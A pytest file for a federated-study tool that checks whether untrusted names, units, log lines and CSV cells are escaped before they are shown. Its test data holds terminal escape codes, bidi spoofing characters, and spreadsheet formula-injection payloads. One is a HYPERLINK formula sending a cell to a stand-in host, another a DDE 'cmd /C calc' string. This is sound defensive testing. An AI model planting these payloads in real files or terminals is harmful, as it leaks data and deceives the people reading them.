"""Whoever writes a name, a unit, a log line or a cell: it is shown, and never obeyed."""

from __future__ import annotations

import csv
import io
import logging
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console
from typer.testing import CliRunner

import client.cli
import server.cli
from client.service.site_log import write_log
from common.errors import SettingError
from common.printable import csv_cell, csv_text, in_log, is_printable, printable
from common.protocol.orders import Measurement
from common.runtime import progress
from common.runtime.command import Shown
from common.study import load_study
from server.report.live_view import table_of
from server.report.tables import read_results
from server.report.terminal import format_tables, table_in_text
from server.results import write_results
from tests.conftest import FEATURES, overridden

HIDE = "\x1b[8m"
CODES = {
    "hidden text": HIDE,
    "a title of the window": "\x1b]0;pwned\x07",
    "one byte for two": "\x9b8m",
    "back over it": "\b\b\b",
    "back to the start": "\rapproved",
    "another line": "\napproved: yes",
    "right to left": "\u202egnp.exe",
    "isolated": "\u2066a\u2069",
    "arabic mark": "\u061c",
    "no width": "\u200b\ufeff",
    "a line of unicode": "\u2028approved",
    "invisible tags": "\U000e0041",
    "half a character": "\ud800",
    "delete": "\x7f",
}
MARKUP = ("loss/[/]", "[bold]x[/bold]", "[link=http://x]y", ":smile:", "[[[", "[/]")
NORMAL = ("Größe in µm", "年龄 (岁)", "العمر", "גיל", "👩‍⚕️ 🇩🇪", "naïve café", "a  b", "नमस्ते")


@pytest.mark.parametrize("name", CODES)
def test_a_code_is_written_and_not_obeyed(name: str) -> None:
    """Whatever a terminal would do for it, it does not."""
    shown = printable(f"unit {CODES[name]} end")
    assert is_printable(shown)
    assert shown.startswith("unit ")
    assert shown.endswith(" end")
    assert "\\" in shown
    shown.encode()  # half characters end a print


@pytest.mark.parametrize("text", NORMAL)
def test_normal_text_is_shown_as_it_is(text: str) -> None:
    """Hospitals are called Zürich and 协和; nobody is to read escape codes for it."""
    assert printable(text) == text == in_log(text) == csv_text(csv_cell(text))


@given(st.text(), st.booleans())
def test_nothing_that_is_shown_is_obeyed(text: str, lines: bool) -> None:
    """For any text at all; a second time changes nothing."""
    shown = printable(text, lines=lines)
    assert is_printable(shown.replace("\n", "") if lines else shown)
    assert printable(shown, lines=lines) == shown


@given(st.text(st.characters(codec="utf-8", exclude_categories=["C", "Z"]), max_size=20))
def test_a_cell_gives_its_text_back(text: str) -> None:
    """results.csv is read again: a guard against formulas must not change what it says."""
    for prefix in ("", "=", "+", "-", "@", "'", "''=", "'=", "'a", "\uff1d"):
        cell = csv_cell(prefix + text)
        assert csv_text(cell) == prefix + text
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("name", CODES)
@pytest.mark.parametrize(
    "key", ["targets.age.unit", "splits.salt", "targets.sex.classes", "data.columns", "backbone.x"]
)
def test_a_study_with_hidden_text_is_refused_with_key_and_line(
    tmp_path: Path, key: str, name: str
) -> None:
    """ESC[8m in a unit hid the rest of what was approved."""
    if name == "half a character":
        pytest.skip("UTF-8 has none, so no file has")
    text = f"years{CODES[name]}"
    value = {"classes": ["female", text], "columns": ["thickness", text]}.get(
        key.rsplit(".", maxsplit=1)[-1], text
    )
    file = tmp_path / "study.toml"
    file.write_text(tomli_w.dumps(overridden(FEATURES, {key: value})))
    with pytest.raises(SettingError) as found:
        load_study(file)
    assert "a character that is not shown" in str(found.value)
    assert key in str(found.value)
    assert "line" in str(found.value)
    assert is_printable(str(found.value))


def test_a_hidden_key_is_refused_too(tmp_path: Path) -> None:
    """A name before the equals sign is as much text as what follows it."""
    file = tmp_path / "study.toml"
    file.write_text(
        tomli_w.dumps(overridden(FEATURES, {"targets": {HIDE: {"kind": "regression"}}}))
    )
    with pytest.raises(SettingError, match="not shown"):
        load_study(file)


def test_normal_text_in_a_study_is_agreed_to(tmp_path: Path) -> None:
    """The check is of what is not shown, not of what is not English."""
    file = tmp_path / "study.toml"
    for text in NORMAL:
        file.write_text(tomli_w.dumps(overridden(FEATURES, {"targets.age.unit": text})))
        assert load_study(file).targets["age"].unit == text


def test_what_approving_means_for_the_site_comes_last(federation: Callable[..., Any]) -> None:
    """What others wrote must not push the site's own consequences off the screen."""
    made = federation()
    arguments = ["approve", str(made.study_file), "--site", str(made.sites / "alpha/site.toml")]
    shown = CliRunner().invoke(client.cli.app, arguments, input="n\n").output
    study, site = shown.index("study tiny"), shown.index("this site: alpha")
    assert study < shown.index("participants: ") < site < shown.index("small cells:")
    assert shown.index("hours: always") < shown.index("Does alpha approve this?")


class Terminal:
    """A console that keeps what a terminal would get."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.stream = io.StringIO()
        self.console = Console(file=self.stream, force_terminal=True, width=200, highlight=False)
        for module in (progress, server.cli):
            monkeypatch.setattr(module, "console", self.console)

    @property
    def text(self) -> str:
        return self.stream.getvalue()


@pytest.mark.parametrize("text", [*CODES.values(), *MARKUP])
def test_what_is_said_is_shown(monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    """Refusals, phases and errors quote what sites and studies wrote."""
    terminal = Terminal(monkeypatch)
    progress.say(f"a {text} b")
    with progress.track(f"a {text} b", 1) as advance:
        advance()
    assert printable(f"a {text} b", lines=True) in terminal.text
    assert HIDE not in terminal.text
    assert "\x1b]0" not in terminal.text


@pytest.mark.parametrize("text", [*CODES.values(), *MARKUP])
def test_a_table_shows_its_cells_as_they_are(text: str) -> None:
    """`loss/[/]` ended looking on at a run; escape codes reached the terminal by the same way."""
    stream = io.StringIO()
    console = Console(file=stream, width=400, highlight=False, color_system=None)
    console.print(table_in_text(text, ("phase", text), [(text, "x"), ("y", text)]))
    assert stream.getvalue().count(printable(text)) >= 4
    assert is_printable(stream.getvalue().replace("\n", ""))


def poisoned(run: Any, text: str) -> None:
    """Let a run's records say `text` wherever a site or a study may have written it."""
    import json

    from server.run_files import write_sealed

    path = next(run.folder.glob("rounds/*/record.json"))
    [record] = run.federated.records()
    record["loss"] = {text: 1.0}
    record["refused"] = {text: text}
    write_sealed(path, record)
    (run.folder / "state.json").write_text(
        json.dumps({"state": "failed", "error": text, "since": 1})
    )


@pytest.mark.parametrize("text", [HIDE, "loss/[/]", "[bold]"])
def test_looking_on_shows_whatever_a_record_says(federation: Callable[..., Any], text: str) -> None:
    """A coordinator looks on for hours; what one site called a loss must not end it."""
    from server.run import read_run

    run = federation({"pretraining.rounds": 1, "objective.targets": ["age"]}).simulate()
    poisoned(run, text)
    stream = io.StringIO()
    console = Console(file=stream, width=300, highlight=False, color_system=None)
    state = {"state": "failed", "error": text}
    console.print(table_of(read_run(run.folder), state, hub_lives=True))
    shown = CliRunner().invoke(_show_app(), [str(run.folder)])
    assert shown.exit_code == 0, shown.exception
    for told in (stream.getvalue(), shown.output):
        assert HIDE not in told
    assert printable(text) in stream.getvalue()


def _show_app() -> Any:
    import typer

    app = typer.Typer()
    app.command()(server.cli.show)
    return app


FORMULA = '=HYPERLINK("http://x.example/"&A1,"open")'


def test_results_hold_no_formula_and_are_read_back_the_same(
    federation: Callable[..., Any],
) -> None:
    """A coordinator opens results.csv in a spreadsheet, which would send it where a site says."""
    run = federation({"pretraining.rounds": 1, "objective.targets": ["age"]}).simulate()
    texts = (
        FORMULA,
        "+1",
        "-1+cmd|'/C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "'=1",
        "'quoted'",
        "mae",
        "年龄",
    )
    rows = [
        Measurement(
            phase="evaluate", target="age", model=text, site="alpha", role="train", metric=text,
            value=-1.5, ci_low=-2.0, ci_high=None, n_participants=20, n_scans=20,
        )
        for text in texts
    ]  # fmt: skip
    path = write_results(run, rows)
    with path.open(newline="") as stream:
        cells = list(csv.DictReader(stream))
    for row, text in zip(cells, texts, strict=True):
        assert not row["model"].startswith(("=", "+", "-", "@", "\t"))
        assert csv_text(row["model"]) == printable(text)
        assert (float(row["value"]), row["ci_low"], row["ci_high"]) == (-1.5, "-2.0", "")
    back = read_results(run)
    assert [row.model for row in back] == [printable(text) for text in texts]
    assert [row.value for row in back] == [-1.5] * len(texts)
    assert HIDE not in format_tables(run)


def test_a_sites_table_of_quality_holds_no_formula_and_no_code(
    federation: Callable[..., Any],
) -> None:
    """Participants' names and cells come from whoever sent the table."""
    made = federation()
    table = made.sites / "alpha" / "table.csv"
    lines = table.read_text().splitlines()
    lines += [f"{name},x,1,1,1,50,male,ad" for name in ('"=HYPERLINK(1)"', HIDE, "@a")]
    table.write_text("\n".join(lines) + "\n")
    made.agent("alpha")
    [quality] = (made.sites / "alpha" / ".callosum").rglob("quality.tsv")
    for line in quality.read_text().splitlines():
        for cell in line.split("\t"):
            assert is_printable(cell)
            assert not cell.startswith(("=", "+", "-", "@"))
    arguments = [
        "check",
        "--study",
        str(made.study_file),
        "--site",
        str(made.sites / "alpha/site.toml"),
    ]
    shown = CliRunner().invoke(client.cli.app, arguments)
    assert shown.exit_code == 0
    assert HIDE not in shown.output


@pytest.mark.parametrize("name", CODES)
def test_a_log_has_one_line_for_one_message(tmp_path: Path, name: str) -> None:
    """Whoever could write a line break could write a line: that nothing was refused, say."""
    log = logging.getLogger("callosum")
    before, told = list(log.handlers), log.propagate
    write_log(tmp_path / "agent.log")
    try:
        log.warning("an asking ends with %s", f"x{CODES[name]}y")
        log.warning("long: %s", "x" * 1_000_000)
        try:
            raise ValueError(f"x{CODES[name]}y")
        except ValueError:
            log.exception("failed")
    finally:
        for handler in set(log.handlers) - set(before):
            handler.close()
            log.removeHandler(handler)
        log.propagate = told
    text = (tmp_path / "agent.log").read_text()
    assert is_printable(text.replace("\n", ""))
    assert len(text) < 10_000
    assert (
        sum(
            line.split(" ")[2] in ("WARNING", "ERROR")
            for line in text.splitlines()
            if line[:2] == "20"
        )
        == 3
    )
    assert Shown("%(message)s").format(logging.makeLogRecord({"msg": "a\nb"})) == "a\\nb"
